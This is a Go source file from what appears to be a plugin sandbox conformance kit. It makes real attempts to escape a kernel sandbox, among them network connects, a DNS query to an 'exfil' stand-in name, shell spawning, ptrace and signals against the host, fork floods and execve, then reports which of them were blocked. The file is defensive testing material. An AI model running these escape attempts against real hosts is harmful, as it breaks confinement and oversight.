// Package escape tries, from inside a plugin process, each way out of the
// host's kernel sandbox that a hostile connector would try, and reports
// what happened to each attempt. The conformance kit runs it as a probe in
// the sandbox `ferry plugin check` hands it; Ferry's hostile test plugin
// runs it on demand inside the real host. Both use this one list, so the
// kit checks exactly what the host's tests prove.
//
// Every attempt is made for real: a connection that succeeds is made, a
// file that can be written is written (then removed), a process that can
// be forked is forked (and reaped). Run it only inside a sandbox, or in a
// test that wants to see the attempts succeed.
package escape

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"syscall"
	"time"
)

// Targets are what the tester set up for the attempts to reach. A zero
// field skips its attempts.
type Targets struct {
	// TCP is host:port of a TCP listener the tester runs on 127.0.0.1.
	TCP string `json:"tcp,omitempty"`
	// UDP is host:port of a UDP socket the tester reads; the DNS lookup
	// also asks it.
	UDP string `json:"udp,omitempty"`
	// Abstract is the name (without the leading @) of an abstract Unix
	// socket the tester listens on.
	Abstract string `json:"abstract,omitempty"`
	// Dirs are more directories to create a file in, beside the temp
	// directory, the working directory, and go-plugin's socket directory
	// and its parent (from PLUGIN_UNIX_SOCKET_DIR), which are always tried.
	Dirs []string `json:"dirs,omitempty"`
	// Files are files to read: the host's config, a file planted beside
	// it. The last one is also the target of chmod.
	Files []string `json:"files,omitempty"`
	// Parent is the pid to signal and ptrace: the host.
	Parent int `json:"parent,omitempty"`
	// Forks is how many processes to try to fork; default 64.
	Forks int `json:"forks,omitempty"`
	// ExecInPlace also tries execve("/bin/sh") on the calling process:
	// where it succeeds the process is gone, which a tester inside a
	// sandbox sees as the plugin dying.
	ExecInPlace bool `json:"exec_in_place,omitempty"`
}

// Attempt is the outcome of one attempt.
type Attempt struct {
	// Name says what was tried: tcp_connect, udp_send, dns_lookup,
	// raw_socket, netlink_socket, abstract_unix, create_file, read_file,
	// chmod, exec_sh, ptrace, signal, pdeathsig, fork, execve_in_place.
	Name string `json:"name"`
	// Target is what it was tried on (an address, a path, a pid), if any.
	Target string `json:"target,omitempty"`
	// Err is the error (its errno name when there is one), or "" when the
	// attempt succeeded.
	Err string `json:"err,omitempty"`
}

// Blocked reports whether the attempt failed.
func (a Attempt) Blocked() bool { return a.Err != "" }

func (a Attempt) String() string {
	s := a.Name
	if a.Target != "" {
		s += " " + a.Target
	}
	if a.Err == "" {
		return s + ": succeeded"
	}
	return s + ": " + a.Err
}

// Try makes every attempt t allows and returns the outcomes in order.
func Try(t Targets) []Attempt {
	var out []Attempt
	add := func(name, target string, err error) {
		out = append(out, Attempt{Name: name, Target: target, Err: describe(err)})
	}
	// A connection made is the escape: what is written on it after is
	// not checked (the tester's listener may close it first).
	if t.TCP != "" {
		c, err := net.DialTimeout("tcp", t.TCP, 2*time.Second)
		if err == nil {
			_, _ = c.Write([]byte("escaped"))
			c.Close()
		}
		add("tcp_connect", t.TCP, err)
	}
	if t.UDP != "" {
		c, err := net.Dial("udp", t.UDP)
		if err == nil {
			_, err = c.Write([]byte("escaped"))
			c.Close()
		}
		add("udp_send", t.UDP, err)
		// A lookup through the resolver, sent to the tester's socket (the
		// lookup fails either way: nobody answers; what counts is whether
		// the query could be sent).
		r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, "udp", t.UDP)
		}}
		ctx, cancel := context.WithTimeout(context.Background(), 300*time.Millisecond)
		_, err = r.LookupHost(ctx, "phi-exfil.example")
		cancel()
		var de *net.DNSError
		if errors.As(err, &de) && de.IsTimeout {
			err = nil // the query left: only the answer was missing
		}
		add("dns_lookup", t.UDP, err)
	}
	// The system resolver (/etc/hosts, /etc/resolv.conf, then DNS).
	ctx, cancel := context.WithTimeout(context.Background(), time.Second)
	_, err := net.DefaultResolver.LookupHost(ctx, "localhost")
	cancel()
	add("dns_lookup", "localhost", err)
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_ICMP)
	if err == nil {
		syscall.Close(fd)
	}
	add("raw_socket", "AF_INET", err)
	add("netlink_socket", "NETLINK_ROUTE", netlinkSocket())
	if t.Abstract != "" {
		c, err := net.DialTimeout("unix", "@"+t.Abstract, 2*time.Second)
		if err == nil {
			_, _ = c.Write([]byte("escaped"))
			c.Close()
		}
		add("abstract_unix", "@"+t.Abstract, err)
	}
	dirs := []string{os.TempDir(), "."}
	if sd := os.Getenv("PLUGIN_UNIX_SOCKET_DIR"); sd != "" {
		// go-plugin's socket directory: the one place a sandboxed plugin
		// may create files (its socket), where RLIMIT_FSIZE=0 keeps them
		// empty; and its parent.
		dirs = append(dirs, sd, filepath.Dir(sd))
	}
	for _, d := range append(dirs, t.Dirs...) {
		p := filepath.Join(d, fmt.Sprintf("ferry-escape-%d", os.Getpid()))
		err := os.WriteFile(p, []byte("phi"), 0o600)
		if err == nil {
			os.Remove(p)
		} else if !errors.Is(err, os.ErrExist) {
			// A file made but left empty (RLIMIT_FSIZE) is still a
			// file: remove it, report the write's error.
			os.Remove(p)
		}
		add("create_file", d, err)
	}
	for _, f := range t.Files {
		_, err := os.ReadFile(f)
		add("read_file", f, err)
	}
	if n := len(t.Files); n > 0 {
		fi, err := os.Stat(t.Files[n-1])
		if err == nil {
			err = os.Chmod(t.Files[n-1], fi.Mode().Perm()|0o004)
			if err == nil {
				_ = os.Chmod(t.Files[n-1], fi.Mode().Perm())
			}
		}
		add("chmod", t.Files[n-1], err)
	}
	_, err = os.ReadFile("/bin/sh")
	add("read_file", "/bin/sh", err)
	add("exec_sh", "/bin/sh", spawn("/bin/sh", "-c", "exit 0"))
	if t.Parent > 0 {
		target := strconv.Itoa(t.Parent)
		add("ptrace", target, ptrace(t.Parent))
		// SIGWINCH: harmless if it does arrive.
		add("signal", target, syscall.Kill(t.Parent, syscall.SIGWINCH))
	}
	// Outliving the host: clear the parent-death signal.
	add("pdeathsig", "0", clearPdeathsig())
	forks := t.Forks
	if forks <= 0 {
		forks = 64
	}
	made, err := fork(forks)
	if err == nil && made < forks {
		err = fmt.Errorf("forked only %d of %d", made, forks)
	}
	add("fork", strconv.Itoa(forks), err)
	if t.ExecInPlace {
		out = append(out, ExecInPlace())
	}
	return out
}

// ExecInPlace tries execve("/bin/sh") on the calling process. Where it
// succeeds it does not return: the process is a shell that exits at once.
func ExecInPlace() Attempt {
	err := syscall.Exec("/bin/sh", []string{"sh", "-c", "exit 0"}, nil)
	return Attempt{Name: "execve_in_place", Target: "/bin/sh", Err: describe(err)}
}

// spawn runs path the way os/exec does, minus its checks beforehand, so
// the attempt reaches the kernel's fork and exec.
func spawn(path string, args ...string) error {
	pid, err := syscall.ForkExec(path, append([]string{path}, args...), &syscall.ProcAttr{Files: []uintptr{0, 1, 2}})
	if err != nil {
		return err
	}
	var ws syscall.WaitStatus
	_, err = syscall.Wait4(pid, &ws, 0, nil)
	return err
}

// describe names err by its errno where it has one.
func describe(err error) string {
	if err == nil {
		return ""
	}
	var errno syscall.Errno
	if errors.As(err, &errno) {
		if name := errnoName(errno); name != "" {
			return name
		}
	}
	return err.Error()
}

func errnoName(e syscall.Errno) string {
	switch e {
	case syscall.EPERM:
		return "EPERM"
	case syscall.EACCES:
		return "EACCES"
	case syscall.ENOSYS:
		return "ENOSYS"
	case syscall.EAFNOSUPPORT:
		return "EAFNOSUPPORT"
	case syscall.ECONNREFUSED:
		return "ECONNREFUSED"
	case syscall.ENOENT:
		return "ENOENT"
	case syscall.EFBIG:
		return "EFBIG"
	case syscall.EAGAIN:
		return "EAGAIN"
	case syscall.EROFS:
		return "EROFS"
	case syscall.ESRCH:
		return "ESRCH"
	}
	return ""
}
